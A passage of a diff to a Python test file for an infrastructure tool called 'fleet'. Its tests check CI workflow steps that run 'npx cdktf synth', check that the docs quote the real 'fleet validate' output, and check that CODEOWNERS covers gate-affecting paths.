+    assert not re.search(r"\b(plan|cdktf|npx|pipenv)\b", text) and "-auto-approve" not in text
+
+
+def test_the_pr_gate_and_the_deploy_synthesize_through_cdktf_json(pr, stack):
+    """One synth, judged and applied: both run `npx cdktf synth` (the app command in cdktf.json)."""
+    assert "npx cdktf synth" in step_with_id(pr["jobs"]["plan"], "plan")["run"]
+    assert "npx cdktf synth" in run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
+    assert json.loads((ROOT / "cdktf.json").read_text())["app"].startswith("pipenv run python")
+
+
+# --- the README's (or docs/') pasted `fleet validate` output -------------------------------------
+
+
+def doc_texts() -> str:
+    """The README, and docs/*.md where README text is moving."""
+    paths = [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]
+    return "\n".join(p.read_text() for p in paths if p.is_file())
 
 
 def fleet_cli(args: list[str], cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
@@ -553,14 +1143,14 @@ def fleet_cli(args: list[str], cwd: Path = ROOT) -> subprocess.CompletedProcess[
     )
 
 
-def test_the_readmes_validate_summary_is_the_commands_real_output():
+def test_the_docs_validate_summary_is_the_commands_real_output():
     run = fleet_cli(["validate", "examples/two-services.yaml"])
     assert run.returncode == 0, run.stderr
     block = f"```text\n$ pipenv run python -m fleet validate examples/two-services.yaml\n{run.stdout}```\n"
-    assert block in README.read_text()
+    assert block in doc_texts()
 
 
-def test_the_readmes_old_shape_refusal_is_the_commands_real_output(tmp_path):
+def test_the_docs_old_shape_refusal_is_the_commands_real_output(tmp_path):
     """A fleet file from before services: targets, apps and traffic at the top level."""
     data = yaml.safe_load((ROOT / "examples" / "target-swap.yaml").read_text())
     data.update(data.pop("services")["web"])
@@ -568,13 +1158,11 @@ def test_the_readmes_old_shape_refusal_is_the_commands_real_output(tmp_path):
     run = fleet_cli(["validate", "old.yaml"], cwd=tmp_path)
     assert run.returncode == 2 and len(run.stderr.splitlines()) == 1, run.stderr
     block = f"```text\n$ pipenv run python -m fleet validate old.yaml\n{run.stderr}```\n"
-    assert block in README.read_text()
+    assert block in doc_texts()
 
 
 def test_codeowners_guards_every_gate_affecting_path():
     """The PR comment names these paths as gate-affecting; CODEOWNERS asks an owner's review for each."""
-    from fleet.gate.sources import GATE_AFFECTING
-
     owned = [
         line.split()[0].lstrip("/")
         for line in (ROOT / ".github/CODEOWNERS").read_text().splitlines()
